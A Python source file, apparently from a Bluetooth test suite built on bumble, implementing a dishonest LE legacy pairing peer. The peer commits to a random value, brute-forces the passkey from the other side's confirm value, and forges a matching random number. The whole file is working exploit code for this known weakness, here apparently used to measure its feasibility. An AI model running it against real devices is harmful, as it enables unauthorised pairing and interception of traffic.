# SPDX-License-Identifier: GPL-2.0-or-later
"""A dishonest peer of LE legacy pairing, which computes the passkey instead of being told it (Rosa, 2013)."""

from __future__ import annotations

import secrets
import time

from bumble import smp
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

# Testing all passkeys takes about 40 s, longer than a pairing may last. This tests only passkeys near the right one; each costs
# two encryptions.
NEIGHBOURHOOD = 10_000


def swapped_xor(left: bytes, right: bytes) -> bytes:
    return bytes(a ^ b for a, b in zip(left, right, strict=True))


class ComputingSession(smp.Session):
    """Claims to have a keyboard, confirms any value, and computes the passkey and the confirmed random number afterwards."""

    # Passkeys found in all sessions, and the computing time of each in seconds.
    found: list[int] = []
    seconds: list[float] = []

    def on_smp_pairing_confirm_command_legacy(self, _: smp.SMP_Pairing_Confirm_Command) -> None:
        self.commitment = secrets.token_bytes(16)
        self.send_command(smp.SMP_Pairing_Confirm_Command(confirm_value=self.commitment))

    def on_smp_pairing_random_command_legacy(self, command: smp.SMP_Pairing_Random_Command) -> None:
        async def answer() -> None:
            near = await self.pairing_config.delegate.get_number() or 0
            self.compute(command, range(max(0, near - NEIGHBOURHOOD), near + NEIGHBOURHOOD))

        self.connection.cancel_on_disconnection(answer())

    def compute(self, command: smp.SMP_Pairing_Random_Command, passkeys: range) -> None:
        start = time.monotonic()
        # The two operands of c1, in the byte order of the cipher.
        first = (bytes([self.iat, self.rat]) + self.preq + self.pres)[::-1]
        second = (self.ra + self.ia + bytes(4))[::-1]
        once = swapped_xor(command.random_value[::-1], first)
        confirm = int.from_bytes(self.confirm_value[::-1], "big")
        operand = int.from_bytes(second, "big")
        for passkey in passkeys:
            encryptor = Cipher(algorithms.AES(passkey.to_bytes(16, "big")), modes.ECB()).encryptor()
            middle = int.from_bytes(encryptor.update(once), "big") ^ operand
            if int.from_bytes(encryptor.update(middle.to_bytes(16, "big")), "big") == confirm:
                break
        else:
            return
        self.found.append(passkey)
        self.seconds.append(time.monotonic() - start)
        self.passkey = passkey
        self.tk = passkey.to_bytes(16, "little")
        decryptor = Cipher(algorithms.AES(self.tk[::-1]), modes.ECB()).decryptor()
        middle_block = swapped_xor(decryptor.update(self.commitment[::-1]), second)
        self.r = swapped_xor(decryptor.update(middle_block), first)[::-1]
        super().on_smp_pairing_random_command_legacy(command)
